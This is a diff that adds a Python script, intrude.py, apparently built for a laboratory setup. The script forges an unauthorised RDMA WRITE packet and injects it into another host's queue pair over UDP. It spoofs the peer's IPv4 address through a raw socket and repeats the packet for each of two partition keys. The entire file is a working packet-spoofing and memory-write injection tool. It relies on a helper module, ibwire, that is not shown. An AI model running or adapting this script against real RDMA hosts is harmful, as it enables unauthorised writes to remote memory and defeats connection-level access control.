@@ -1,0 +1,39 @@
+"""An RDMA WRITE that a connection has not allowed, put on the UDP cable of a device as if the other end of the connection had sent it.
+
+    intrude.py LOCAL PEER DLID SLID QPN PSN
+
+LOCAL, PEER: IPv4 addresses of the cable's ends, the packet goes to PEER. QPN: the queue pair at PEER; PSN: the packet that
+it expects. Whatever its partition: the packet is sent for each that the laboratory has, and dropped but for one.
+"""
+
+import pathlib
+import socket
+import struct
+import sys
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
+
+import ibwire  # noqa: E402
+
+PORT = 4800
+RC_WRITE_ONLY = 0x0A
+PKEYS = (0xFFFF, 0x8001)
+
+
+def main():
+    local, peer = sys.argv[1:3]
+    dlid, slid, qpn, psn = (int(word, 0) for word in sys.argv[3:])
+    reth = struct.pack(">QII", 0x1000, 0x100, 4)
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+        for pkey in PKEYS:
+            bth = ibwire.bth(RC_WRITE_ONLY, qpn, psn, pkey, ack=True)
+            packet = ibwire.finish(ibwire.lrh(dlid, slid) + bth + reth + b"gift")
+            datagram = struct.pack(">HHHH", PORT, PORT, 8 + len(packet), 0) + packet
+            # The kernel fills in what is zero, and the checksum.
+            header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, socket.IPPROTO_UDP, 0,
+                                 socket.inet_aton(local), socket.inet_aton(peer))
+            raw.sendto(header + datagram, (peer, 0))
+
+
+if __name__ == "__main__":
+    main()
